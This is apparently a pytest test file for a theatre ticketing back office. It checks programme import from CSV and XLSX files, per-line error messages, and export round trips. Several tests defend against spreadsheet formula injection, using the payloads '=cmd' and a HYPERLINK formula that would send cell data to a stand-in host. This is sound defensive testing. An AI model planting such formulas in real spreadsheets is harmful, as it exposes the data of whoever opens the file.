"""A season's programme in the files people really have (CSV from Excel in Windows-1252, UTF-8
with or without BOM, ";" between cells, XLSX written by a program), through the back office's
programme desk on the real demo SQLite database; and the export, which imports again into a
fresh organisation, with formula-looking text made harmless."""

from __future__ import annotations

import csv
import shutil
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select, update
from sqlalchemy.orm import Session, sessionmaker

from guichet.domain.errors import DomainError
from guichet.models.db import make_engine, sqlite_url
from guichet.models.tables import Event, Occurrence
from guichet.services.backoffice import BackOffice
from guichet.services.backoffice.programme import (
    PreviewRow,
    ProgrammeRefused,
    line_messages,
)
from guichet.services.backoffice.views import EventDraft
from guichet.services.counter import Counter
from guichet.services.setup import OrganisationDraft, create_organisation
from tests.conftest import Clock, user_id

NBSP = "\u00a0"
TORONTO = ZoneInfo("America/Toronto")
HEADER = ["event", "venue", "starts_at", "ends_at", "capacity", "price_list", "tags"]
#: The same programme in every file: two dates of a known show, one of a show not known yet.
ROWS = [
    ["Les Belles-sœurs", "Théâtre du Quai", "2027-06-01 10:00", "2027-06-01 12:20", "320", "",
     "été, matinée"],
    ["Les Belles-sœurs", "Théâtre du Quai", "2027-06-02 20:00", "2027-06-02 22:20", "300", "",
     ""],
    ["Théâtre d'été : Œdipe", "Théâtre du Quai", "2027-06-03 10:00", "", "150",
     "Théâtre — régulier", "été"],
]  # fmt: skip


@pytest.fixture
def office(counter: Counter) -> BackOffice:
    counter.login(user_id(counter, "Marie"), "9999")
    return counter.back_office()


def count_dates(office: BackOffice) -> tuple[int, int]:
    with office.session_factory() as session:
        return (
            int(session.scalar(select(func.count(Occurrence.id))) or 0),
            int(session.scalar(select(func.count(Event.id))) or 0),
        )


def write_csv(path: Path, rows: list[list[str]], encoding: str, delimiter: str = ",") -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return path


def write_xlsx(path: Path) -> Path:
    """As a program writes it: date-time cells, capacities as floats, a header with extra
    spaces in French, and empty rows at the end."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([" Événement ", "Lieu", " début ", "FIN", "Capacité", "Liste de prix ",
                  "étiquettes"])  # fmt: skip
    for event, venue, starts, ends, capacity, price_list, tags in ROWS:
        sheet.append(
            [
                event,
                venue,
                datetime.fromisoformat(starts),
                datetime.fromisoformat(ends) if ends else None,
                float(capacity),
                price_list or None,
                tags or None,
            ]
        )
    sheet.append([None] * 7)
    sheet.append(["", " ", None])
    book.save(path)
    return path


def facts(rows: list[PreviewRow]) -> list[tuple[object, ...]]:
    return [
        (r.event, r.venue, r.starts_at, r.ends_at, r.capacity, r.price_list, r.tags, r.new_event)
        for r in rows
    ]


def test_the_same_programme_in_every_file_gives_the_same_dates(
    office: BackOffice, tmp_path: Path
) -> None:
    table = [HEADER, *ROWS]
    files = {
        "utf-8 with BOM": write_csv(tmp_path / "bom.csv", table, "utf-8-sig"),
        "utf-8": write_csv(tmp_path / "plain.csv", table, "utf-8"),
        "windows-1252": write_csv(tmp_path / "excel.csv", table, "cp1252"),
        "semicolons": write_csv(tmp_path / "french.csv", table, "cp1252", ";"),
        "xlsx": write_xlsx(tmp_path / "programme.xlsx"),
    }
    assert "œ".encode("cp1252") == b"\x9c"  # the Windows-1252 file really holds it so
    assert b"\x9c" in (tmp_path / "excel.csv").read_bytes()
    previews = {kind: office.programme.preview(path) for kind, path in files.items()}
    for kind, preview in previews.items():
        assert preview.errors == [], (kind, preview.errors)
        assert preview.valid
    expected = facts(previews["utf-8"].rows)
    for kind, preview in previews.items():
        assert facts(preview.rows) == expected, kind
    assert [r.line for r in previews["xlsx"].rows] == [2, 3, 4]
    assert previews["xlsx"].new_events == ["Théâtre d'été : Œdipe"]

    before = count_dates(office)
    result = office.programme.import_file(files["windows-1252"])
    assert (result.events, result.dates) == (1, 3)
    assert count_dates(office) == (before[0] + 3, before[1] + 1)
    # Local times in the organisation's time zone (10:00 in Toronto is 14:00 UTC in June).
    with office.session_factory() as session:
        dates = session.execute(
            select(Event.name, Occurrence.starts_at, Occurrence.ends_at, Occurrence.capacity)
            .join(Event)
            .where(Occurrence.starts_at >= datetime(2027, 6, 1, tzinfo=TORONTO))
            .order_by(Occurrence.starts_at)
        ).all()
    local = [
        (name, start.replace(tzinfo=start.tzinfo or ZoneInfo("UTC")).astimezone(TORONTO), cap)
        for name, start, _end, cap in dates
    ]
    assert [(n, s.strftime("%Y-%m-%d %H:%M"), c) for n, s, c in local] == [
        ("Les Belles-sœurs", "2027-06-01 10:00", 320),
        ("Les Belles-sœurs", "2027-06-02 20:00", 300),
        ("Théâtre d'été : Œdipe", "2027-06-03 10:00", 150),
    ]
    created = office.events.find("Théâtre d'été : Œdipe")
    assert created is not None
    assert (created.venue_name, created.price_list_name) == (
        "Théâtre du Quai",
        "Théâtre — régulier",
    )
    # The same file again: every date is already there, nothing is added.
    again = office.programme.preview(files["xlsx"])
    assert [e.code for e in again.errors] == ["date_exists_at"] * 3


def test_a_file_with_bad_rows_says_each_error_at_its_line_and_writes_nothing(
    office: BackOffice, tmp_path: Path
) -> None:
    show, quai, theatre = "Les Belles-sœurs", "Théâtre du Quai", "Théâtre — régulier"
    rows = [
        HEADER,
        [show, quai, "2027-06-01 20:00", "2027-06-01 22:20", "320", "", ""],
        [show, quai, "2027-06-02 20:00", "2027-06-02 19:00", "320", "", ""],
        ["Nouveau spectacle", "Salle Bourgie", "2027-06-03 20:00", "", "abc", theatre, ""],
        [show, quai, "2027-06-01 20:00", "", "320", "", ""],
        [show, quai, "2027-06-05 20:00", "", "320", "", ""],
        [],
        [show, quai, "1 juin 2027", "", "-5", "", "=cmd"],
        [show, quai],  # a line cut short: its start is missing, not "not a date"
    ]
    path = write_csv(tmp_path / "programme.csv", rows, "utf-8")
    before = count_dates(office)
    preview = office.programme.preview(path)
    assert not preview.valid and preview.command is None
    assert [(e.line, e.code) for e in preview.errors] == [
        (3, "ends_before_start"),
        (4, "unknown_venue_named"),
        (4, "number_invalid"),
        (5, "date_twice"),
        (8, "date_invalid"),
        (8, "number_negative"),
        (8, "text_formula"),
        (9, "value_missing"),
    ]
    assert [r.line for r in preview.rows] == [2, 6]
    words = line_messages(preview.errors, "fr", office.timezone)
    assert words[0] == (
        f"Ligne 3{NBSP}: La fin (mercredi 2 juin 2027, 19{NBSP}h) doit venir après le début "
        f"(mercredi 2 juin 2027, 20{NBSP}h)."
    )
    assert words[1] == (
        f"Ligne 4{NBSP}: Lieu inconnu{NBSP}: «{NBSP}Salle Bourgie{NBSP}» (lieux{NBSP}: "
        "Centre récréatif Saint-Roch, Théâtre du Quai)."
    )
    assert (
        words[2]
        == f"Ligne 4{NBSP}: La capacité{NBSP}: «{NBSP}abc{NBSP}» n'est pas un nombre entier."
    )
    assert words[3] == (
        f"Ligne 5{NBSP}: La même date est en double (mardi 1er juin 2027, 20{NBSP}h)."
    )
    assert words[7] == f"Ligne 9{NBSP}: Le début est vide."
    english = line_messages(preview.errors, "en", office.timezone)
    assert english[1] == (
        "Line 4: Unknown venue: \u201cSalle Bourgie\u201d (venues: Centre récréatif Saint-Roch, "
        "Théâtre du Quai)."
    )
    with pytest.raises(ProgrammeRefused) as refused:
        office.programme.import_file(path)
    assert len(refused.value.errors) == 8
    with pytest.raises(ProgrammeRefused):
        office.programme.save(preview)
    assert count_dates(office) == before

    # A withdrawn list is not offered for new dates; the dates of its events still are.
    leisure = office.prices.find_list("Loisirs — régulier")
    assert leisure is not None
    office.prices.set_list_active(leisure.id, False)
    centre = "Centre récréatif Saint-Roch"
    path = write_csv(
        tmp_path / "loisirs.csv",
        [
            HEADER,
            ["Bain libre", centre, "2027-06-01 13:00", "", "60", leisure.name, ""],
            ["Bain libre", centre, "2027-06-02 13:00", "", "60", "", ""],
        ],
        "utf-8",
    )
    preview = office.programme.preview(path)
    assert [(e.line, e.code) for e in preview.errors] == [(2, "price_list_withdrawn")]
    assert [(r.line, r.price_list) for r in preview.rows] == [(3, leisure.name)]


def test_what_spreadsheets_do_to_cells_is_read_or_said_in_words(
    office: BackOffice, tmp_path: Path
) -> None:
    # Excel's "sep=;" line, a title line before the header, "320,0", "10 h 30".
    text = (
        "sep=;\r\nProgramme de l'été 2027;;;\r\n"
        "événement;lieu;début;fin;capacité;liste_de_prix\r\n"
        "Les Belles-sœurs;Théâtre du Quai;2027-06-01 10 h 30;;320,0;\r\n"
    )
    path = tmp_path / "excel.csv"
    path.write_bytes(text.encode("cp1252"))
    preview = office.programme.preview(path)
    assert preview.errors == []
    (row,) = preview.rows
    assert (row.line, row.capacity) == (4, 320)
    assert row.starts_at.astimezone(TORONTO).strftime("%H:%M") == "10:30"
    # The show lasts 140 minutes: the end comes from the event when the file gives none.
    assert (row.ends_at - row.starts_at).total_seconds() == 140 * 60

    # The hour clocks skip in spring does not exist.
    path.write_text(
        "event,venue,starts_at,capacity\r\n"
        "Les Belles-sœurs,Théâtre du Quai,2027-03-14 02:30,320\r\n",
        encoding="utf-8",
    )
    (error,) = office.programme.preview(path).errors
    assert error.code == "time_skipped"

    # A formula a program wrote (no value computed by Excel) is named, not guessed.
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append(["Les Belles-sœurs", "Théâtre du Quai", datetime(2027, 6, 1, 20), "=C2+1/12", 320])
    xlsx = tmp_path / "formulas.xlsx"
    book.save(xlsx)
    (error,) = office.programme.preview(xlsx).errors
    assert (error.line, error.code, error.params["cell"]) == (2, "cell_formula", "D2")
    assert "=C2+1/12" in line_messages([error], "fr", office.timezone)[0]

    # Files that are not what they say, or not there.
    damaged = tmp_path / "damaged.xlsx"
    damaged.write_text("event,venue\n", encoding="utf-8")
    for wrong, code in (
        (damaged, "xlsx_damaged"),
        (tmp_path / "programme.ods", "file_format"),
        (tmp_path / "missing.csv", "file_not_found"),
    ):
        with pytest.raises(DomainError) as refused:
            office.programme.preview(wrong)
        assert refused.value.code == code
    (tmp_path / "no-header.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    (error,) = office.programme.preview(tmp_path / "no-header.csv").errors
    assert (error.line, error.code) == (1, "columns_missing")


def fresh_office(
    tmp_path: Path, template_db: Path, clock: Clock
) -> tuple[BackOffice, Callable[[], None]]:
    """A new organisation (as the set-up assistant makes it) with venues and lists named like
    the demo's, made through the back office."""
    path = tmp_path / "fresh.sqlite3"
    shutil.copy2(template_db, path)
    engine = make_engine(sqlite_url(path))
    factory: sessionmaker[Session] = sessionmaker(engine, expire_on_commit=False)
    setup = create_organisation(
        factory, OrganisationDraft("Théâtre de la Rive", "Julie Roy", "4321"), clock=clock
    )
    counter = Counter(factory, setup.terminal_id, clock=clock)
    counter.login(user_id(counter, "Julie"), "4321")
    office = counter.back_office()
    adult = office.prices.save_category("adult", "Adulte", "Adult")
    office.prices.save_price_list("Théâtre — régulier", {adult: 4000})
    office.prices.save_price_list("Loisirs — régulier", {adult: 800})
    office.venues.save("Théâtre du Quai")
    office.venues.save("Centre récréatif Saint-Roch")
    return office, engine.dispose


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_an_export_imports_into_a_fresh_organisation_with_the_same_dates(
    office: BackOffice, tmp_path: Path, template_db: Path, clock: Clock, suffix: str
) -> None:
    exported = tmp_path / f"programme{suffix}"
    count = office.programme.export(exported)
    assert count == count_dates(office)[0] > 30
    fresh, close = fresh_office(tmp_path, template_db, clock)
    try:
        result = fresh.programme.import_file(exported)
        assert result.dates == count
        assert result.events == len({e.name for e in office.events.all()})
        again = tmp_path / "again.csv"
        original = tmp_path / "original.csv"
        fresh.programme.export(again)
        office.programme.export(original)
        assert again.read_text(encoding="utf-8-sig") == original.read_text(encoding="utf-8-sig")
        bain = fresh.events.find("Bain libre")
        assert bain is not None and bain.venue_name == "Centre récréatif Saint-Roch"
        assert bain.price_list_name == "Loisirs — régulier"
    finally:
        close()


def test_formula_text_is_refused_at_input_and_harmless_in_exports(
    office: BackOffice, tmp_path: Path
) -> None:
    theatre = office.venues.find("Théâtre du Quai")
    prices = office.prices.find_list("Théâtre — régulier")
    assert theatre is not None and prices is not None
    formula = '=HYPERLINK("http://x.example/?"&A1,"Billets")'
    with pytest.raises(DomainError) as refused:
        office.events.save(EventDraft("show", formula, theatre.id, prices.id))
    assert refused.value.code == "text_formula"
    path = write_csv(
        tmp_path / "formula.csv",
        [HEADER, [formula, "Théâtre du Quai", "2027-06-01 20:00", "", "100", prices.name, ""]],
        "utf-8",
    )
    (error,) = office.programme.preview(path).errors
    assert (error.line, error.code) == (2, "text_formula")

    # A name starting with "-" that got in by other means (an old database, a bug): the
    # export writes it as text a spreadsheet will not run.
    with office.session_factory.begin() as session:
        session.execute(
            update(Event).where(Event.name == "Les Belles-sœurs").values(name="-3 degrés")
        )
    csv_path, xlsx_path = tmp_path / "out.csv", tmp_path / "out.xlsx"
    office.programme.export(csv_path)
    office.programme.export(xlsx_path)
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        names = {row[0] for row in csv.reader(handle)}
    assert "'-3 degrés" in names and "-3 degrés" not in names
    # In XLSX the cell is typed as text: shown as written, never run, no apostrophe to see.
    sheet = load_workbook(xlsx_path).worksheets[0]
    cells = {cell.value: cell.data_type for (cell, *_rest) in sheet.iter_rows()}
    assert cells["-3 degrés"] == "s"
    with zipfile.ZipFile(xlsx_path) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()


def test_a_new_event_lasts_as_long_as_its_first_row_says(
    office: BackOffice, tmp_path: Path
) -> None:
    """Aquaforme's first row ends at 10:45: its second row, with no end, lasts 45 minutes
    too, and so does the event's next date added in the back office."""
    rows = [
        HEADER,
        ["Aquaforme", "Centre récréatif Saint-Roch", "2027-06-01 10:00", "2027-06-01 10:45",
         "25", "Loisirs — régulier", ""],
        ["Aquaforme", "Centre récréatif Saint-Roch", "2027-06-02 10:00", "", "25", "", ""],
    ]  # fmt: skip
    office.programme.import_file(write_csv(tmp_path / "aqua.csv", rows, "utf-8"))
    made = next(e for e in office.events.all() if e.name == "Aquaforme")
    assert made.defaults.duration_minutes == 45
    second = next(
        d for d in office.dates.list() if d.event_id == made.id and d.starts_at.day == 2
    )
    assert (second.ends_at - second.starts_at).total_seconds() == 45 * 60


def test_a_column_given_twice_is_refused_rather_than_one_of_them_ignored(
    office: BackOffice, tmp_path: Path
) -> None:
    rows = [
        [*HEADER, "événement"],
        [*ROWS[0], "Le Malade imaginaire"],
    ]
    before = count_dates(office)
    preview = office.programme.preview(write_csv(tmp_path / "twice.csv", rows, "utf-8"))
    assert not preview.valid
    assert line_messages(preview.errors, "fr", "America/Toronto") == [
        f"Ligne 1{NBSP}: Ces colonnes sont en double (en français et en anglais{NBSP}?)"
        f"{NBSP}: event. Gardez-en une de chaque."
    ]
    assert count_dates(office) == before


def test_a_seated_show_takes_its_seat_count_not_another_capacity(
    office: BackOffice, tmp_path: Path
) -> None:
    """Tartuffe plays in a hall of four seats: a row that says 500 would have been sold as
    four without a word; it is refused, and the seat count itself (or nothing) is taken."""
    theatre = office.venues.find("Théâtre du Quai")
    prices = office.prices.find_list("Théâtre — régulier")
    assert theatre is not None and prices is not None
    seats = "section,row,number,x,y,accessible\n" + "\n".join(
        f"Parterre,A,{n},{n * 20},0,non" for n in range(1, 5)
    )
    hall = office.venues.import_seated_hall(theatre.id, "Petite salle", seats)
    office.events.save(EventDraft("show", "Tartuffe", theatre.id, prices.id, hall_id=hall))
    row = ["Tartuffe", "Théâtre du Quai", "2027-06-01 20:00", "", "500", "", ""]
    before = count_dates(office)
    preview = office.programme.preview(write_csv(tmp_path / "t.csv", [HEADER, row], "utf-8"))
    assert line_messages(preview.errors, "fr", "America/Toronto") == [
        f"Ligne 2{NBSP}: «{NBSP}Tartuffe{NBSP}» se vend par siège{NBSP}: sa capacité est "
        "celle de son plan (4 sièges). Laissez la colonne capacity vide ou mettez-y ce nombre."
    ]
    assert count_dates(office) == before
    for capacity in ("4", ""):
        row[2], row[4] = f"2027-06-0{2 + len(capacity)} 20:00", capacity
        good = office.programme.preview(write_csv(tmp_path / "t.csv", [HEADER, row], "utf-8"))
        assert good.valid and good.rows[0].capacity == 4
